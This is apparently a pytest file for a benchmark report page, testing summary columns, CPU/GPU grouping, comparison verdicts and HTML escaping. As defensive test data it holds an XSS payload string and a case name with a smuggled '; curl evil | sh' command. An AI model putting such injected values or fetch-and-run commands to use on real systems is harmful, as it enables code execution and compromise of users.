"""The page of a report: its numbers are those of the summaries, texts of files are data, and it loads nothing."""

import json
import re
from pathlib import Path

import pytest

from deepbench.judge import compare
from deepbench.report.page import content, render
from deepbench.results.file import ResultFile
from deepbench.results.summary import summarize
from tests import samples

HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(1)>=cmd"


def file(records, cases=()):
    return ResultFile(Path("mine.jsonl"), samples.header(list(cases)), records)


def test_columns_are_the_numbers_of_the_summaries():
    text = "gemm m=4 n={} k=4 a_t=0 b_t=0 forward f32 {} threads=1"
    records = [
        samples.measured(b, s * n, text=text.format(n, b))
        for n in (1, 2)
        for b, s in (("mkl", 1e-3), ("openblas", 2e-3))
    ]
    data = content.of_file(file(records), "mine")
    summaries = summarize(records)

    assert [s.estimate.time_s for s in summaries] == data["columns"]["time_s"]
    assert [s.flop_per_s for s in summaries] == data["columns"]["flop_per_s"]
    assert ["fastest", None, "fastest", None] == data["columns"]["position"]
    assert ["gemm m=4 k=4 a_t=0 b_t=0"] * 4 == data["columns"]["family"]
    assert [1, 1, 2, 2] == data["columns"]["size"]
    assert "gemm: MKL 2" in " ".join(data["sentences"])
    assert len(records) == len(data["samples"])
    assert [4] * 4 == data["fields"]["m"]
    assert [1, 1, 2, 2] == data["fields"]["n"]


def test_fields_of_other_operations_are_missing():
    conv = "conv n=1 c=2 h=5 w=5 k=3 r=3 s=3 forward f32 onednn threads=1"
    data = content.of_file(file([samples.measured(), samples.measured(text=conv)]), "mine")

    assert [3, 1] == data["fields"]["n"]
    assert [2, None] == data["fields"]["m"]
    assert [None, 5] == data["fields"]["h"]


def test_published_machines_have_fields_too():
    fields = content.of_machine("NVIDIA T4")["fields"]

    assert [5124, 700, 2048] == [fields[name][0] for name in "mnk"]


def test_a_command_is_offered_only_for_words_that_are_safe_to_paste():
    good, bad = samples.measured(), samples.measured(seconds=2e-3)
    bad["case"] += "; curl evil | sh #"
    data = content.of_file(file([good, bad]), "mine")

    assert [f"deepbench run {good['case']}", None] == data["columns"]["command"]


def test_a_cpu_and_a_gpu_do_not_compete():
    text = "gemm m=64 n=64 k=64 a_t=0 b_t=0 forward f32 {} threads=1"
    records = [samples.measured(b, s, text=text.format(b)) for b, s in (("mkl", 1e-3), ("cublas", 1e-6))]
    data = content.of_file(file(records), "mine")

    assert ["cpu", "cuda"] == data["columns"]["device"]
    assert ["fastest", "fastest"] == data["columns"]["position"]  # they do not compete
    assert [("cpu", 1), ("cuda", 1)] == [(place["device"], place["threads"]) for place in data["limits"]]
    assert [{}, {}] == [place["peaks"] for place in data["limits"]]  # no probe, so no limit
    text = " ".join(data["sentences"])
    assert "on the CPU: " in text
    assert "on the GPU: " in text


def test_an_interval_of_one_process_is_marked():
    one = content.of_file(file([samples.measured()]), "mine")
    two = content.of_file(file([samples.measured(), samples.measured()]), "mine")

    assert ["one process"] == one["columns"]["interval_of"]
    assert any("one process only" in text for text in one["sentences"])
    assert ["processes"] == two["columns"]["interval_of"]


def test_variants_are_one_family():
    text = "all_reduce n={} ranks=2 forward f32 openmpi threads=1{}"
    records = [
        samples.measured("openmpi", 1e-3, text=text.format(n, w)) for n, w in ((10, " algorithm=ring"), (100, ""))
    ]

    assert 1 == len(set(content.of_file(file(records), "mine")["columns"]["family"]))


def test_a_comparison_takes_drift_between_sessions_into_account(monkeypatch, tmp_path):
    def runs(seconds):
        records = [samples.measured(seconds=seconds * (1 + 0.001 * i)) for i in range(5)]
        return file([{**r, "round": i} for i, r in enumerate(records, 1)])

    data = runs(1e-3), runs(1.04e-3)
    assert "slower" == content.of_pair(*data, ("a", "b"))["cases"][0]["verdict"]
    monkeypatch.setattr(content.selftest, "between_files", lambda a, b: 0.03)
    assert "cannot tell" == content.of_pair(*data, ("a", "b"))["cases"][0]["verdict"]


def test_samples_are_thinned_and_keep_their_order():
    assert [0.0, 3.0, 6.0, 9.0] == content._thinned([float(i) for i in range(10)], 4)
    assert [1.0] == content._thinned([1.0], 4)


def test_a_page_holds_hostile_texts_as_data_only():
    pytest.importorskip("plotly", reason="a page needs Plotly: pip install plotly")
    bad = samples.failed("crashed", HOSTILE)
    bad["problem"] = {"m": 1, HOSTILE: 2}
    header = samples.header()
    header["machine"]["cpu"] = HOSTILE
    data = ResultFile(Path("mine.jsonl"), header, [bad, samples.measured()])
    html = render.page({"files": [content.of_file(data, HOSTILE)], "pairs": []}, HOSTILE).decode()

    scripts = re.findall(r"<script[^>]*>", html)
    # The data, Plotly and ours; what a stranger wrote opened none.
    assert 2 + len(render.SCRIPTS) == len([s for s in scripts if "alert" not in s]) == len(scripts)
    assert "<img" not in html
    embedded = re.search(r'<script type="application/json" id="content">(.*?)</script>', html, re.S)[1]
    assert HOSTILE == json.loads(embedded)["files"][0]["name"]


def test_the_policy_names_each_script_by_its_hash():
    policy = render.policy(["a", "b"])

    assert "default-src 'none'" in policy
    assert 2 == policy.count("sha256-")
    assert "unsafe-eval" not in policy
    assert "unsafe-inline" not in policy.split("style-src")[0]


def test_two_files_are_compared():
    a, b = (file([samples.measured(seconds=s, round_number=i) for i in range(1, 6)]) for s in (1e-3, 2e-3))
    data = content.of_pair(a, b, ("a", "b"))

    assert data["cases"][0]["ratio"] == pytest.approx(2.0)
    assert compare.compare_files(a, b).cases[0].case == data["cases"][0]["case"]
    nothing = content.of_pair(a, file([samples.measured("openblas")]), ("a", "b"))
    assert "no measured case in common" in nothing["heading"][0]
